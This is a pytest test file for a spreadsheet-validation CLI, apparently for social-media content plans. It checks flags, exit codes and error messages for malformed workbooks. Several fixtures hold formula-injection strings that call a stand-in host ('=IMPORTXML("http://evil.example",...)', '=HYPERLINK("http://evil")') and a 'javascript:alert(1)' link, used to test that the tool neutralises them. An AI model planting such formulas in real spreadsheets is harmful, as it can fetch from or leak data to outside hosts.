"""What admins and the world really do to a workbook: every case gives a flag
or a one-line error with the documented exit code, never a traceback."""

import datetime as dt
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from sheets_plan import LocalBackend, provision
from sheets_plan.cli.commands import cli
from .constants import AS_OF_TEXT as AS_OF

GOOD_ROW = {"A": dt.datetime(2026, 3, 2), "B": dt.time(10, 0), "C": "Instagram", "D": "post", "E": "Product",
            "F": "Seasonal latte", "G": "Caption", "H": "Anna", "I": "published",
            "J": "https://instagram.com/p/1", "K": 10, "L": 2, "M": 3, "N": 1, "O": 500, "P": 900}
ACCOUNT = [(dt.datetime(2026, 3, 2), "Instagram", 4000, 20, 5, 2), (dt.datetime(2026, 3, 9), "Instagram", 4100, 30, 8, 3)]


@pytest.fixture(scope="module")
def base(tmp_path_factory, template):
    folder = tmp_path_factory.mktemp("base")
    path = provision(LocalBackend(folder), "Base", admins=["Anna", "Boris"], locale="en", template=template)
    wb = openpyxl.load_workbook(path)
    for col, value in GOOD_ROW.items():
        wb["Plan"][f"{col}2"].value = value
    for r, row in enumerate(ACCOUNT, start=2):
        for c, value in enumerate(row, start=1):
            wb["Account"].cell(r, c).value = value
    wb.save(path)
    return Path(path).read_bytes()


@pytest.fixture
def workbook(tmp_path, base):
    path = tmp_path / "Base.xlsx"
    path.write_bytes(base)
    return path


def validate(path, *extra):
    result = CliRunner().invoke(cli, ["validate", str(path), "--as-of", AS_OF, "--format", "json", *extra])
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def edit(path, fn):
    wb = openpyxl.load_workbook(path)
    fn(wb)
    wb.save(path)


def cell(ref, value, sheet="Plan", text=False):
    def fn(wb):
        wb[sheet][ref].value = value
        if text:
            wb[sheet][ref].data_type = "s"
    return fn


@pytest.mark.slow
def test_the_base_workbook_is_clean(workbook):
    result = validate(workbook)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["flags"] == []


FLAGGED = [  # (id, edit, rule, cell)
    ("text-in-likes", cell("K2", "abc"), "types", "K2"),
    ("digits-and-letters", cell("K2", "12abc"), "types", "K2"),
    ("decimal-comma", cell("K2", "1,5"), "types", "K2"),
    ("negative", cell("K2", -3), "types", "K2"),
    ("fraction", cell("P2", 900.5), "types", "P2"),
    ("boolean", cell("L2", True), "types", "L2"),
    ("percent-text", cell("K2", "12%"), "types", "K2"),
    ("infinity-sign", cell("K2", "∞"), "types", "K2"),
    ("hex", cell("K2", "0x10"), "types", "K2"),
    ("blank-spaces", cell("F2", "   "), "required", "F2"),
    ("empty-string", cell("C2", "", text=True), "required", "C2"),
    ("formula-typed-into-stats", cell("O2", "=1+1"), "stats_reach", "O2"),
    ("date-garbage", cell("A2", "tomorrow"), "types", "A2"),
    ("date-impossible", cell("A2", "32.13.2026"), "types", "A2"),
    ("date-number-typo", cell("A2", 7), "types", "A2"),
    ("date-huge-number", cell("A2", 123456789), "types", "A2"),
    ("unknown-platform", cell("C2", "MySpace"), "types", "C2"),
    ("unknown-admin", cell("H2", "Mallory"), "types", "H2"),
    ("link-without-scheme", cell("J2", "instagram.com/p/1"), "link", "J2"),
    ("link-javascript", cell("J2", "javascript:alert(1)"), "link", "J2"),
    ("link-missing", cell("J2", None), "link", "J2"),
    ("future-published", cell("A2", dt.datetime(2026, 4, 1)), "future", "A2"),
    ("likes-above-views", cell("K2", 5000), "plausible", "K2"),
    ("caption-missing", cell("G2", None), "caption", "G2"),
    ("status-missing", cell("I2", None), "required", "I2"),
    ("overdue", cell("I2", "ready"), "overdue", "A2"),
    ("computed-overwritten", cell("R2", 42), "computed", "R2"),   # and restored: see test_workbook_repairs
    ("account-text", cell("C3", "many", sheet="Account"), "account_types", "C3"),
    ("account-week-missing", cell("A3", None, sheet="Account"), "account_required", "A3"),
    ("account-followers-missing", cell("C2", None, sheet="Account"), "weekly", ""),
    ("account-platform-missing", cell("B2", None, sheet="Account"), "account_required", "B2"),
    ("account-platform-unknown", cell("B2", "MySpace", sheet="Account"), "account_types", "B2"),
    # read by the check, but not counted by the sheet's formulas: flagged on the cell (`fix` cleans them)
    ("date-dotted", cell("A2", "02.03.2026"), "counted", "A2"),
    ("date-short", cell("A2", "02.03"), "counted", "A2"),
    ("date-iso", cell("A2", "2026-03-02"), "counted", "A2"),
    ("date-slashed", cell("A2", "02/03/2026"), "counted", "A2"),
    ("date-words", cell("A2", "2 March 2026"), "counted", "A2"),
    ("date-with-time", cell("A2", "02.03.2026 18:00"), "counted", "A2"),
    ("number-with-space", cell("K2", "1 0", text=True), "counted", "K2"),
    ("number-with-nbsp", cell("O2", "5\u00a000", text=True), "counted", "O2"),
    ("number-trailing-space", cell("K2", "10 ", text=True), "counted", "K2"),
    ("status-other-locale", cell("I2", "опубликовано"), "counted", "I2"),
    ("status-padded", cell("I2", "published "), "counted", "I2"),
    ("admin-padded", cell("H2", " anna"), "counted", "H2"),
    ("account-week-as-text", cell("A2", "02.03.2026", sheet="Account"), "account_counted", "A2"),
    ("account-second-row-for-a-week", cell("A3", dt.datetime(2026, 3, 4), sheet="Account"), "duplicate_week", "A3"),
]


@pytest.mark.slow
@pytest.mark.parametrize("name, fn, rule, ref", FLAGGED, ids=[c[0] for c in FLAGGED])
def test_bad_cell_gives_a_flag(workbook, name, fn, rule, ref):
    edit(workbook, fn)
    result = validate(workbook, "--no-write")
    flags = json.loads(result.stdout)["flags"]
    assert (rule, ref) in {(f["rule"], f["cell"]) for f in flags}, flags
    errors = any(f["severity"] == "error" for f in flags)
    assert result.exit_code == (1 if errors else 0)          # warnings pass unless --fail-on warning
    assert validate(workbook, "--no-write", "--fail-on", "warning").exit_code == 1


ACCEPTED = [  # what looks odd but is a valid value: no flag at all
    ("date-serial", cell("A2", 46083)),
    ("choice-case", cell("C2", "instagram")),  # a spreadsheet criterion ignores letter case: counted
    ("emoji-and-rtl", cell("F2", "קפה ☕ قهوة 😀")),
    ("injection-in-caption", cell("G2", '=IMPORTXML("http://evil.example","//a")', text=True)),
    ("very-long-caption", cell("G2", "x" * 30000)),
    ("empty-rows-between", lambda wb: [wb["Plan"].cell(8, c).__setattr__("value", v)
                                       for c, v in enumerate(GOOD_ROW.values(), start=1)]),
    ("merged-cells", lambda wb: wb["Plan"].merge_cells("E2:E3")),
]


@pytest.mark.slow
@pytest.mark.parametrize("name, fn", ACCEPTED, ids=[c[0] for c in ACCEPTED])
def test_odd_but_valid_input_is_accepted(workbook, name, fn):
    edit(workbook, fn)
    result = validate(workbook)
    flags = json.loads(result.stdout)["flags"]
    assert result.exit_code == 0 and flags == [] or name == "empty-rows-between" and \
        {f["rule"] for f in flags} == {"link"}, flags  # the copied row repeats the link


@pytest.mark.slow
def test_injected_formula_is_written_back_as_text(workbook):
    edit(workbook, cell("G2", None))
    edit(workbook, cell("F2", '=IMPORTXML("http://evil.example","//a")', text=True))
    edit(workbook, cell("K2", "=HYPERLINK(\"http://evil\")", text=True))
    result = validate(workbook, "--format", "text")
    assert result.exit_code == 1
    ws = openpyxl.load_workbook(workbook)["Check"]
    messages = [c.value for c in ws["E"] if c.value]
    assert any("HYPERLINK" in m for m in messages)
    for c in ws["E"]:
        assert c.data_type != "f"  # the admin's text never becomes a formula


ERRORS = [  # (id, break the file, words in the one-line error)
    ("deleted-header", cell("I1", None), "no column “Status”"),
    ("renamed-header", cell("F1", "Theme"), "no column “Topic”"),
    ("renamed-tab", lambda wb: setattr(wb["Plan"], "title", "Posts"), "no tab “Plan”"),
    ("deleted-tab", lambda wb: wb.remove(wb["Account"]), "no tab “Account”"),
]


RU_ERRORS = [  # the same, on a Russian workbook: its people read the error
    ("deleted-header", cell("I1", None, "Контент-план"),
     "вкладка «Контент-план»: нет столбца «Статус» (переименован или удалён?); верните заголовок"),
    ("deleted-tab", lambda wb: wb.remove(wb["Аккаунт"]), "нет вкладки «Аккаунт» (переименована или удалена?)"),
    ("header-twice", cell("M1", "Дата", "Контент-план"), "в строке заголовков дважды столбец «Дата»"),
]


@pytest.mark.parametrize("name, fn, words", RU_ERRORS, ids=[c[0] for c in RU_ERRORS])
def test_broken_structure_of_a_russian_workbook_is_said_in_russian(tmp_path, name, fn, words):
    from sheets_plan import LocalBackend, provision

    path = provision(LocalBackend(tmp_path), "Ru", admins=["Аня"], locale="ru")
    edit(path, fn)
    result = validate(path)
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and words in result.stderr, result.stderr


@pytest.mark.parametrize("name, fn, words", ERRORS, ids=[c[0] for c in ERRORS])
def test_broken_structure_is_one_line_exit_2(workbook, name, fn, words):
    edit(workbook, fn)
    result = validate(workbook)
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and words in result.stderr, result.stderr


@pytest.mark.parametrize("name, content", [
    ("not-a-workbook", b"name,likes\nlatte,10\n"),
    ("truncated", None),
    ("empty-file", b""),
])
def test_unreadable_files_are_one_line_exit_2(workbook, name, content):
    if content is None:
        content = workbook.read_bytes()[: len(workbook.read_bytes()) // 2]
    workbook.write_bytes(content)
    result = validate(workbook)
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and "not a readable .xlsx" in result.stderr


def test_an_empty_workbook(tmp_path):
    path = tmp_path / "empty.xlsx"
    openpyxl.Workbook().save(path)
    result = validate(path)
    # its one tab, "Sheet", says the program that made it speaks English
    assert result.exit_code == 2 and "it has no tab “Plan”" in result.stderr


def test_a_missing_file(tmp_path):
    result = validate(tmp_path / "nope.xlsx")
    assert result.exit_code == 2 and "no such workbook" in result.stderr


def test_a_bad_as_of_date(workbook):
    result = CliRunner().invoke(cli, ["validate", str(workbook), "--as-of", "16.03.2026"])
    assert result.exit_code == 2 and "Traceback" not in result.output


@pytest.mark.slow
def test_fifty_thousand_rows(workbook):
    wb = openpyxl.load_workbook(workbook)
    ws = wb["Plan"]
    values = list(GOOD_ROW.values())
    for r in range(3, 50_002):
        row = list(values)
        row[9] = f"https://instagram.com/p/{r}"
        if r % 1000 == 0:
            row[10] = "lots"        # a few bad cells among many
        for c, v in enumerate(row, start=1):
            ws.cell(r, c).value = v
    wb.save(workbook)
    result = validate(workbook, "--no-write")
    assert result.exit_code == 1
    report = json.loads(result.stdout)
    assert report["summary"]["rows_checked"] == 50_000 + 2
    assert sum(f["rule"] == "types" for f in report["flags"]) == 50


@pytest.mark.slow
def test_an_overwritten_formula_is_flagged_once_and_restored(workbook):
    edit(workbook, cell("R2", 42))
    first = json.loads(validate(workbook).stdout)["flags"]
    assert [f["rule"] for f in first] == ["computed"]
    assert openpyxl.load_workbook(workbook)["Plan"]["R2"].value.startswith("=IF(COUNT(K2")
    assert validate(workbook).exit_code == 0


@pytest.mark.slow
def test_a_number_outside_the_date_range_is_kept_as_typed(workbook):
    edit(workbook, cell("A2", 123456789))
    validate(workbook)                                   # writes the Check and Log tabs
    with zipfile.ZipFile(workbook) as z:                 # the file still holds the number typed
        assert "<v>123456789</v>" in z.read("xl/worksheets/sheet1.xml").decode()
    grid, = LocalBackend(workbook.parent).read(str(workbook), ["Plan!A2:A2"])
    assert grid.values == [[123456789]]


def test_a_header_pasted_again_is_one_flag_for_its_row(tmp_path, template, office):
    """In Calc, a person pastes the plan's header into row 12 (between posts): one flag for the row,
    not one per cell; the row counts nowhere, the other rows are checked as before, nothing changes."""
    from sheets_plan.jobs import project as jobs
    from sheets_plan.jobs.demo import fill_rows, sample_rows
    from .person import person_parts

    as_of = dt.date.fromisoformat(AS_OF)
    backend = LocalBackend(tmp_path)
    path = provision(backend, "Header", admins=["Аня", "Боря"], locale="ru", template=template)
    plan, account = sample_rows(template, "ru", as_of)
    fill_rows(backend, path, template, plan[:20], account)
    before = jobs.validate(backend, path, template=template, as_of=as_of, write=False)
    labels = [c.label("ru") for c in template.tab("plan").input_columns]
    letters = [chr(ord("A") + template.tab("plan").index(c.key)) for c in template.tab("plan").input_columns]
    office.edit(path, [["unprotect", "Контент-план"], ["insert_rows", "Контент-план", 12, 1]]
                + [["set", "Контент-план", f"{col}12", label] for col, label in zip(letters, labels)])
    typed = person_parts(path)["Контент-план"]
    after = jobs.validate(backend, path, template=template, as_of=as_of)
    on_row = [(f.rule, f.cell, f.message) for f in after.flags if f.tab == "plan" and f.row == 12]
    assert on_row == [("header_again", "A12", "Строка повторяет заголовок таблицы: удалите её "
                                              "(она не входит ни в проверку, ни в статистику)")]
    moved = lambda f: (f.rule, f.column, f.row + (f.tab == "plan" and f.row >= 12))  # noqa: E731
    assert sorted(moved(f) for f in before.flags) == sorted(
        (f.rule, f.column, f.row) for f in after.flags if f.rule != "header_again")
    assert after.rows_checked == before.rows_checked
    assert person_parts(path)["Контент-план"] == typed


def test_a_workbook_the_tool_did_not_make_gets_advice_that_leads_somewhere(tmp_path):
    """Not "run provision to recreate it" (provision would refuse: the file exists), but how to start."""
    import openpyxl
    from click.testing import CliRunner

    from sheets_plan.cli.commands import cli

    wb = openpyxl.Workbook()
    wb.active.title = "Plan"
    wb.active.append(["Date", "Topic"])
    wb.save(tmp_path / "Mine.xlsx")
    out = CliRunner().invoke(cli, ["validate", str(tmp_path / "Mine.xlsx")])
    assert out.exit_code == 2 and "was not made by sheets-plan" in out.output
    assert "sheets-plan provision \"NAME\" --dir FOLDER" in out.output and "recreate" not in out.output
    help_text = CliRunner().invoke(cli, ["provision", "--help"]).output
    assert "--rename-admin OLD=NEW instead" in " ".join(help_text.split())
    # said in the workbook's own language: its titles' (the template's default is Russian)
    wb.active.title = "Posts"
    wb.save(tmp_path / "Mine.xlsx")
    out = CliRunner().invoke(cli, ["validate", str(tmp_path / "Mine.xlsx")])
    assert out.exit_code == 2 and "was not made by sheets-plan" in out.output
    wb.active.title = "Посты"
    wb.save(tmp_path / "Mine.xlsx")
    out = CliRunner().invoke(cli, ["validate", str(tmp_path / "Mine.xlsx")])
    assert out.exit_code == 2 and "эта книга сделана не sheets-plan" in out.output


def test_a_row_pasted_one_column_to_the_right_is_one_flag_for_its_row(tmp_path, template, office):
    """In Calc, a person pastes a post into the plan and a contact into the register one column too
    far right (the first cell empty, each value under its neighbour's header): one flag for each
    row, not one per cell; the rows count nowhere, the others are checked as before; the repair
    writes no formula over the views that landed in a computed column; nothing typed changes."""
    from sheets_plan.jobs import project as jobs
    from sheets_plan.jobs.demo import fill_rows, sample_leads, sample_rows
    from sheets_plan.sheets.a1 import col_letter
    from .person import person_parts

    as_of = dt.date.fromisoformat(AS_OF)
    backend = LocalBackend(tmp_path)
    path = provision(backend, "Shifted", admins=["Аня", "Боря"], locale="ru", template=template)
    plan, account = sample_rows(template, "ru", as_of)
    leads = sample_leads(template, "ru", as_of)
    fill_rows(backend, path, template, plan[:20], account, leads[:10])
    before = jobs.validate(backend, path, template=template, as_of=as_of, write=False)
    post = next(r for r in plan[20:] if r[9])  # a published post with its link and stats
    edits = [["unprotect", "Контент-план"], ["insert_rows", "Контент-план", 12, 1], ["unprotect", "Лиды"]]
    edits += [["set", "Контент-план", f"{col_letter(i + 1)}12", v] for i, v in enumerate(post) if v is not None]
    edits += [["set", "Лиды", f"{col_letter(i + 1)}12", v] for i, v in enumerate(leads[12]) if v is not None]
    office.edit(path, edits)
    typed = person_parts(path)
    after = jobs.validate(backend, path, template=template, as_of=as_of)
    on_rows = sorted((f.tab, f.rule, f.cell) for f in after.flags if f.row == 12 and f.tab in ("plan", "leads"))
    assert on_rows == [("leads", "leads_shifted", "A12"), ("plan", "shifted", "A12")]
    message = next(f.message for f in after.flags if f.rule == "shifted")
    assert "«Дата» пуст" in message and "«Время»" in message
    moved = lambda f: (f.rule, f.column, f.row + (f.tab == "plan" and f.row >= 12))  # noqa: E731
    assert sorted(moved(f) for f in before.flags) == sorted(
        (f.rule, f.column, f.row) for f in after.flags if not f.rule.endswith("shifted")), (
        [f.message for f in before.flags if f.rule == "weekly"], [f.message for f in after.flags if f.rule == "weekly"])
    assert after.rows_checked == before.rows_checked
    assert person_parts(path) == typed
    views = openpyxl.load_workbook(path)["Контент-план"]["Q12"].value  # under the computed Week column
    assert (views - dt.datetime(1899, 12, 30)).days == post[15]  # kept (shown as a date: the column's format)
